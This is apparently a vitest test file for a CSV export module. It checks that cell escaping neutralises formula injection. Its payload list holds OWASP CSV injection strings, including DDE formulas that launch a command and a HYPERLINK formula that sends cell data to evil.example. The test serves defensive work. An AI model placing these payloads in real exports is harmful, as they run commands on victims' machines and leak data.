import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "../../worker/lib/csv";
import { summaryCsv } from "../../worker/modules/reports/csv";
import type { SummaryRow } from "../../worker/modules/reports/service";

const text = (stream: ReadableStream<Uint8Array>) => new Response(stream).text();

/**
 * A line read back the way a spreadsheet does with `sep` as its separator: a field is quoted
 * only when its first character is a quote (mid-field quotes are text).
 */
function readCells(line: string, sep: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    let cell = "";
    if (line[i] === '"') {
      i++;
      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
        cell += line[i];
        i += line[i] === '"' ? 2 : 1;
      }
      i++;
    }
    while (i < line.length && line[i] !== sep) {
      cell += line[i];
      i++;
    }
    cells.push(cell);
    i++;
  }
  return cells;
}

// OWASP's CSV injection payloads, and the variants the review ran.
const PAYLOADS = [
  "=1+2",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "a;=1+2",
  "a,=1+2",
  "a; =1+2",
  "a\t=1+2",
  "a\n=1+2",
  "a\r\n@SUM(1)",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "x;-1;+1;@1",
];

describe("CSV cells", () => {
  it("neutralises every payload, whatever separator the spreadsheet splits on", () => {
    for (const payload of PAYLOADS) {
      expect(csvCell(payload).startsWith(`"'`), payload).toBe(true);
      const line = csvLine([7, payload, "z"]);
      // Read with our separator, the payload is one cell, only apostrophes added.
      const [, ours] = readCells(line, ",");
      expect(ours?.replaceAll("'", ""), payload).toBe(payload.replaceAll("'", ""));
      for (const sep of [",", ";", "\t", "\n", "\r"]) {
        for (const read of readCells(line, sep)) {
          const shown = read.replace(/^[ "]+/, "");
          expect(/^[=+\-@\t\r]/.test(shown), `${JSON.stringify(payload)} read on ${sep}`).toBe(
            false,
          );
        }
      }
    }
  });

  it("leaves plain text alone and quotes per RFC 4180", () => {
    expect(csvCell("Ada")).toBe("Ada");
    expect(csvCell("e-mail: a@b.c")).toBe("e-mail: a@b.c");
    expect(csvCell("Lovelace, Ada")).toBe('"Lovelace, Ada"');
    expect(csvCell("Lovelace; Ada")).toBe('"Lovelace; Ada"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
  });

  it("writes numbers as numbers, negatives untouched, and null as empty", () => {
    expect(csvCell(-3.5)).toBe("-3.5");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(null)).toBe("");
  });
});

describe("summary CSV", () => {
  it("has a header row and one CRLF-ended line per row", async () => {
    const row: SummaryRow = {
      id: 7,
      name: "=cmd|' /C calc'!A0",
      conversations_count: 2,
      resolved_conversations_count: 1,
      avg_resolution_time: 90.5,
      avg_first_response_time: null,
      avg_reply_time: 30,
      csat_responses_count: 3,
      csat_satisfaction_score: 66.67,
    };
    expect(await text(summaryCsv([row]))).toBe(
      "id,name,conversations_count,resolved_conversations_count,avg_resolution_time,avg_first_response_time,avg_reply_time,csat_responses_count,csat_satisfaction_score\r\n" +
        "7,\"'=cmd|' /C calc'!A0\",2,1,90.5,,30,3,66.67\r\n",
    );
    expect(await text(summaryCsv([]))).toBe(
      "id,name,conversations_count,resolved_conversations_count,avg_resolution_time,avg_first_response_time,avg_reply_time,csat_responses_count,csat_satisfaction_score\r\n",
    );
  });
});
